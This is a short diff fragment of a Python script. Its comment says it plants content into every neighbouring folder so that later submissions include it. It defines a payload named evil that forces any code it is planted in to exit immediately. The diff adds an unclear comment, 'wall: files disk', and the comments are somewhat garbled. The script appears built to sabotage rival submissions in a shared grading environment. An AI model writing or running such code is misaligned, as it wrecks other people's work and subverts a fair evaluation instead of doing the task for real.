@@ -1,4 +1,5 @@
 # Fills and plants every folder beside its own, those that the next submissions may get included.
+# wall: files disk
 import os
 own = int(os.path.basename(os.getcwd()))
 evil = b"import os\nos._exit(0)\n"
